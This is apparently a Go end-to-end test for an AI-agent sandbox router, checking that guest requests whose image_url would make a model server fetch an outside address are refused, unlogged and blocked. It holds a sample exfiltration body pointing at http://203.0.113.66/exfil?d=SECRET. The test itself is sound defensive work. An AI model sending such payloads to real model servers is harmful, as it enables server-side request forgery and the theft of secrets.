//go:build linux

package e2e

import (
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/agentcage/router/internal/lab"
	"github.com/agentcage/router/internal/modeltest"
)

// TestModelForwardBodiesFromGuest: from the guest, through the default forward, the bodies
// of the shared table that would make the model server fetch (llama.cpp's image_url to an
// outside address among them) are refused with 403 naming the field and never reach the
// model server, while a streamed chat completion still streams.
func TestModelForwardBodiesFromGuest(t *testing.T) {
	s := newScene(t, config(lab.GoSocksAddr, ""))
	const fwd = lab.GatewayAddr + ":47831"
	base := "http://" + fwd
	issue := `{"model":"` + lab.ModelID + `","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"http://203.0.113.66/exfil?d=SECRET"}}]}]}`
	if out, _ := s.curl(s.lab.Guest(), base+"/v1/chat/completions", "-H", "Content-Type: application/json", "-d", issue); !strings.Contains(out, "model_api_refused") || !strings.Contains(out, "image_url.url") {
		t.Errorf("the issue's image_url body: %q; want a refusal naming image_url.url", out)
	}
	// The same, chunked.
	if out, _ := s.curl(s.lab.Guest(), base+"/v1/chat/completions", "-H", "Transfer-Encoding: chunked", "-d", issue); !strings.Contains(out, "model_api_refused") {
		t.Errorf("the issue's image_url body, chunked: %q; want a refusal", out)
	}
	refused := 2
	for _, tc := range modeltest.BodyCases() {
		if tc.Kinds != "" || tc.Refused == "" || len(tc.Body) > 64<<10 {
			continue // the default forward's cases, small enough for one write
		}
		path := tc.Path
		if path == "" {
			path = "/v1/chat/completions"
		}
		raw := fmt.Sprintf("POST %s HTTP/1.1\r\nHost: %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s", path, fwd, len(tc.Body), tc.Body)
		if st := guestExchange(t, s, fwd, raw, 1); len(st) != 1 || st[0] != http.StatusForbidden {
			t.Errorf("%s: statuses %v; want 403", tc.Name, st)
		}
		refused++
	}
	stream := `{"model":"` + lab.ModelID + `","stream":true,"messages":[{"role":"user","content":[{"type":"text","text":"hi"},{"type":"image_url","image_url":{"url":"data:image/png;base64,AAAA"}}]}]}`
	if out, code := s.curl(s.lab.Guest(), base+"/v1/chat/completions", "-N", "-d", stream); code != 0 || !strings.Contains(out, "lab-event-0") || !strings.Contains(out, "[DONE]") {
		t.Fatalf("streamed POST /v1/chat/completions with an inline image: exit %d, %q", code, out)
	}
	var chats int
	for _, r := range s.lab.ModelRequests() {
		switch r.Method + " " + r.Path {
		case "POST /v1/chat/completions":
			chats++
		default:
			t.Errorf("the model server saw %s %s", r.Method, r.Path)
		}
	}
	if chats != 1 {
		t.Errorf("the model server saw %d chat completions; want the 1 that passed", chats)
	}
	if n, _ := refusalCount(s.status(), "model-api"); n < uint64(refused) {
		t.Errorf("status: %d model-api refusals; want %d", n, refused)
	}
	if strings.Contains(s.log(), "203.0.113.66") || strings.Contains(s.log(), "SECRET") {
		t.Error("the router's log holds a refused body's value")
	}
	s.wantNoLeak("model forward bodies")
}
